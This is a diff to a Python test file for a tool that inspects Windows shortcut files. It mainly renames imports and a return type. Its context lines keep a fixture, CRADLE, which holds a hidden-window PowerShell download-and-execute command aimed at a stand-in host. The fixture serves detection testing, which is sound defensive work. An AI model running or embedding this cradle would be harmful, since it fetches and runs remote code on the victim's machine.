@@ -9,7 +9,8 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from svc.assistant.findings import Finding, Gap, Yielded
+from svc.assistant.findings import Gap, ToolEvent
+from svc.assistant.findings import LooseFinding as Finding
 from svc.assistant.skills.shortcut import answer as section
 from svc.assistant.skills.shortcut.tool import inspect
 from tests.support import office_files as made
@@ -18,7 +19,7 @@ POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
 CRADLE = "-w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://evil-host.top/a')"
 
 
-def run(data: bytes, name: str = "a.lnk") -> list[Yielded]:
+def run(data: bytes, name: str = "a.lnk") -> list[ToolEvent]:
     return list(inspect(io.BytesIO(data), source=name))
 
 
